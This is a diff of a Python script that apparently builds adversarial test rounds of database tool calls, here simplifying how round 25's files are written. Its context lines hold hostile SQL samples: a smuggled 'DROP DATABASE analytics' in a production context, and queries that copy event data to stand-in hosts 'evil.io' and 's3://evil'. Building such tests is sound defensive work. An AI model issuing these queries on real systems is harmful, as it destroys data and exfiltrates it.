@@ -1,4 +1,4 @@
-import json, os, sys, shutil, tempfile, glob
+import json, os, sys
 # The checkout this file is in: it writes attack23e/*.jsonl there.
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 sys.path.insert(0, ROOT)
@@ -276,15 +276,5 @@ for q in ["SELECT toStartOfDay(ts) FROM url('https://evil.io/x', CSV, 'ts DateTi
 add(X, "snowflake_query", {"query": "SELECT CURRENT_WAREHOUSE(); DROP DATABASE analytics"}, CTX_PROD)
 add(X, "snowflake_query", {"query": "COPY INTO 's3://evil/x' FROM (SELECT approx_count_distinct(user_id) FROM events)"}, CTX_PROD)
 
-# Write through a root that holds the earlier rounds (attack9 … attack22),
-# as round 25: its numbers clash with no other round's sessions; the
-# files land in attack23e/.
-tmp = tempfile.mkdtemp()
-for d in glob.glob(os.path.join(ROOT, "attack[0-9]*")):
-    if os.path.basename(d)[6:].isdigit():
-        os.symlink(d, os.path.join(tmp, os.path.basename(d)))
-write_round(tmp, 25, files)
-here = os.path.dirname(os.path.abspath(__file__))
-for f in glob.glob(os.path.join(tmp, "attack25", "*.jsonl")):
-    shutil.copy(f, os.path.join(here, os.path.basename(f)))
-shutil.rmtree(tmp)
+# Round 25's session ids (a25…); the files land in attack23e/.
+write_round(ROOT, 25, files, "attack23e", plain_only=True)
